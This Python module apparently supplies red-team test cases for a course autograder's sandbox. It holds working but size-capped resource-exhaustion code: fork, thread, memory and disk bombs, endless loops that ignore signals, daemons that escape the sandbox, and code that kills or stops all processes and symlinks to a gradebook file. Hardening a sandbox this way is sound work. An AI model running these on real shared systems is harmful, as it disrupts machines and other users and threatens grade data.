"""Attacks on what all share: time, memory, processes, disk, patience; all of them bounded.

A bomb stops by itself at a size far above any limit, and says LOOT if it got that far.
"""

from .records import Attack

_HANGS = "would hang one process"

SHAPES = (
    Attack(
        "shape_strided",
        "shape bombs",
        r"""
def whiten(X):
    return np.lib.stride_tricks.as_strided(np.zeros(1), (1 << 20, 1 << 20), (0, 0))
weights = np.broadcast_to(0.0, (10**9,))
""",
        at="whiten",
        unseen="takes the memory of one process",
    ),
    Attack(
        "shape_deep",
        "shape bombs",
        r"""
deep = []
for _ in range(10**6):
    deep = [deep]
def order(words):
    return deep
def tally(words):
    nested = {}
    for _ in range(10**5):
        nested = {"a": nested, "b": (nested,)}
    return nested
""",
        at="tally",
        unseen="the interpreter itself may overflow its stack",
    ),
    Attack(
        "shape_recursive",
        "shape bombs",
        r"""
loop = []
loop.append(loop)
ring = {"a": loop}
ring["b"] = (ring, [ring])
def order(words):
    return loop
def tally(words):
    return ring
best = largest = loop
thing = np.empty(1, dtype=object)
thing[0] = thing
weights = thing
""",
        at="tally",
    ),
    Attack(
        "shape_endless",
        "shape bombs",
        r"""
import itertools
class Endless(list):
    __len__ = lambda self: 1 << 62
    __iter__ = lambda self: itertools.count()
    __getitem__ = lambda self, key: key
def order(words):
    return Endless()
def tally(words):
    return range(10**18)
def roots(a, b, c):
    return itertools.count()
class Keys(dict):
    items = keys = values = __iter__ = lambda self: iter(int, 1)
def kl(mu, sigma):
    return Keys()
""",
        at="kl",
        unseen=_HANGS,
    ),
    Attack(
        "shape_of_numbers",
        "shape bombs",
        r"""
def rms(x):
    return 1 << (1 << 30)
def pairs(n):
    return 7 ** (10**6)
def total(x):
    return complex(1e308, -1e308) * 10 if len(x) else 0
best = "9" * 10**8
largest = -(1 << (1 << 27))
""",
        at="values",
        unseen=_HANGS,
    ),
    Attack(
        "shape_shared",
        "shape bombs",
        r"""
lol = ["ha"] * 10
for _ in range(12):
    lol = [lol] * 10
def order(words):
    return lol
def tally(words):
    return dict.fromkeys(range(10), lol)
""",
        at="tally",
    ),
    Attack(
        "shape_of_names",
        "shape bombs",
        r"""
def rms(x):
    return 1
rms.__name__ = rms.__qualname__ = "r" * 10**7
rms.__doc__ = "d" * 10**8
rms.__annotations__ = {str(n): "a" * 1000 for n in range(10**4)}
huge = type("K" * 10**6, (), {"__repr__": lambda self: "x" * 10**9})
def whiten(X):
    return huge()
def kl(mu, sigma):
    raise ValueError("x" * 10**8)
""",
        at="kl",
        unseen="a harmless waste of time in one process",
    ),
)

FORKS = (
    Attack(
        "fork_bomb",
        "fork bombs",
        r"""
children = 0
try:
    for children in range(300):
        if os.fork() == 0:
            time.sleep(8)
            os._exit(0)
finally:
    if children > 250:
        loot(f"{children} processes")
""",
    ),
    Attack(
        "fork_bomb_of_generations",
        "fork bombs",
        r"""
for _ in range(7):
    os.fork()
time.sleep(5)
os._exit(0)
""",
        unseen="the children would grade themselves",
    ),
    Attack(
        "thread_bomb",
        "fork bombs",
        r"""
import threading
threads = [threading.Thread(target=time.sleep, args=(5,), daemon=True) for _ in range(600)]
for thread in threads:
    thread.start()
loot(f"{threading.active_count()} threads")
""",
    ),
)

MEMORY = (
    Attack(
        "memory_bomb",
        "memory bombs",
        r"""
hoard = []
for _ in range(24):
    hoard.append(np.ones(1 << 23))  # 64 MB each, touched
loot(f"{64 * len(hoard)} MB")
""",
    ),
    Attack(
        "memory_bomb_of_children",
        "memory bombs",
        r"""
for _ in range(4):
    if os.fork() == 0:
        hoard = np.ones(48 << 20)  # 384 MB
        time.sleep(2)
        with open("hoard.txt", "a") as file:
            file.write("x")
        os._exit(0)
for _ in range(4):
    os.wait()
if os.path.getsize("hoard.txt") == 4:
    loot("1.5 GB in four processes")
""",
    ),
    Attack(
        "memory_bomb_by_mapping",
        "memory bombs",
        r"""
import mmap
hoard = [mmap.mmap(-1, 256 << 20) for _ in range(6)]
for each in hoard:
    for at in range(0, len(each), 4096):
        each[at] = 1
loot("1.5 GB mapped")
""",
    ),
)

DISK = (
    Attack(
        "disk_bomb",
        "disk bombs",
        r"""
written = 0
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "filler-@ME@"), "wb") as file:
            for _ in range(96):
                written += file.write(bytes(1 << 20))
    except OSError:
        pass
if written > 80 << 20:
    loot(f"{written >> 20} MB written")
""",
    ),
    Attack(
        "disk_bomb_sparse",
        "disk bombs",
        r"""
for n in range(20):
    with open(f"sparse-{n}", "wb") as file:
        file.truncate(1 << 40)
""",
    ),
    Attack(
        "disk_bomb_of_names",
        "disk bombs",
        r"""
for n in range(20000):
    open(f"file-{n}", "w").close()
here = os.getcwd()
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
""",
    ),
    Attack(
        "disk_locked_folder",
        "disk bombs",
        r"""
os.makedirs("locked/inner")
os.chmod("locked", 0)
os.chmod(".", 0)
""",
    ),
    Attack(
        "disk_odd_files",
        "disk bombs",
        r"""
for name, target in (("figure.png", "@COURSE@/gradebook.db"), ("data", "@COURSE@"),
                     ("loop", "loop"), ("zero.png", "/dev/zero"), ("out.txt", "/proc/self/mem")):
    os.symlink(target, name)
for make in (lambda: os.mkfifo("pipe.csv"), lambda: open("a\nb\x1b[31m.png", "w").close(),
             lambda: open(b"\xff\xfe.png", "wb").close(), lambda: open("-rf", "w").close(),
             lambda: os.mknod("device", 0o20666, os.makedev(1, 5))):
    try:
        make()
    except OSError:
        pass
""",
    ),
)

OUTPUT = (
    Attack(
        "output_bomb",
        "output bombs",
        r"""
for _ in range(40):
    print("x" * 10**6)
""",
    ),
    Attack(
        "output_bomb_of_lines",
        "output bombs",
        r"""
from IPython.display import HTML, display
for n in range(3000):
    print(n, file=sys.stderr)
    display(HTML(f"<b>{n}</b>" * 900))
""",
    ),
    Attack(
        "output_bomb_when_called",
        "output bombs",
        r"""
def rms(x):
    for _ in range(40):
        os.write(1, b"y" * 10**6)
    return 1
""",
    ),
    Attack(
        "output_bomb_raised",
        "output bombs",
        r"""
class Loud(Exception):
    def __str__(self):
        return "z" * 10**8
raise Loud()
""",
    ),
    Attack(
        "output_endless",
        "output bombs",
        "while True:\n    print('x' * 1000)",
        at="kl",
        unseen=_HANGS,
    ),
)

LOOPS = (
    Attack(
        "loop_ignores_all",
        "loops",
        r"""
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def stay():
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
stay()
""",
        at="kl",
        unseen=_HANGS,
    ),
    Attack(
        "loop_when_called",
        "loops",
        r"""
def bisect(f, low, high):
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass
""",
        at="bisect",
        unseen=_HANGS,
    ),
    Attack(
        "loop_of_callbacks",
        "loops",
        r"""
def bisect(f, low, high):
    if low == -1:
        return 0
    while True:
        f(low)
""",
        at="bisect",
        unseen=_HANGS,
    ),
    Attack(
        "loop_recursive",
        "loops",
        r"""
def bisect(f, low, high):
    if low == -1:
        return 0
    sys.setrecursionlimit(10**9)
    return bisect(f, low, high)
""",
        at="bisect",
        unseen="overflows the stack of one process",
    ),
    Attack(
        "loop_in_c",
        "loops",
        r"""
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
def kl(mu, sigma):
    return re.match("(a+)+$", "a" * 64 + "b") or sum(range(10**15))
""",
        at="kl",
        unseen=_HANGS,
    ),
    Attack(
        "loop_at_the_end",
        "loops",
        r"""
import atexit, threading
class Last:
    def __del__(self):
        while True:
            time.sleep(1000)
last = Last()
def stay():
    while True:
        time.sleep(1000)
atexit.register(stay)
threading.Thread(target=stay).start()
""",
        unseen=_HANGS,
    ),
    Attack(
        "loop_of_descriptors",
        "loops",
        r"""
import socket
files = []
while len(files) < 5000:
    files += [os.open("/dev/null", os.O_RDONLY), *os.pipe()]
""",
    ),
)

SIGNALS = (
    Attack(
        "signal_to_all",
        "signals",
        r"""
import signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except OSError:
        pass
""",
    ),
    Attack(
        "signal_to_parents",
        "signals",
        r"""
import signal
for pid in (os.getppid(), 1, 2, *map(int, filter(str.isdigit, os.listdir("/proc")))):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
    ),
    Attack(
        "signal_stops_parents",
        "signals",
        r"""
import signal
for pid in (os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
""",
    ),
    Attack(
        "signal_to_the_group",
        "signals",
        r"""
import signal
os.killpg(0, signal.SIGTERM)
os.kill(os.getpid(), signal.SIGSTOP)
""",
        unseen=_HANGS,
    ),
    Attack(
        "signal_by_priority",
        "signals",
        r"""
import resource
for which, value in ((resource.RLIMIT_CPU, 10**6), (resource.RLIMIT_NPROC, 10**6)):
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        if pid != os.getpid():
            os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError:
        pass
""",
    ),
)

DAEMONS = (
    Attack(
        "daemon_forked",
        "daemons",
        r"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1024)
        os.chdir("/")
        os.execve("/bin/sleep", ["sleep-@ME@", "300"], {})
    os._exit(0)
""",
    ),
    Attack(
        "daemon_started",
        "daemons",
        r"""
import subprocess
quiet = {"stdin": -3, "stdout": -3, "stderr": -3, "start_new_session": True}
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)  # @ME@"], **quiet)
subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; sleep 301 & wait # @ME@"], **quiet)
""",
    ),
    Attack(
        "daemon_that_waits",
        "daemons",
        r"""
if os.fork() == 0:
    os.setsid()
    parent = os.getppid()
    while os.getppid() == parent:
        time.sleep(0.05)
    for _ in range(100):
        search_file("@COURSE@/gradebook.db")
        time.sleep(0.1)
    os._exit(0)
""",
    ),
)

EXHAUSTING = SHAPES + FORKS + MEMORY + DISK + OUTPUT + LOOPS + SIGNALS + DAEMONS
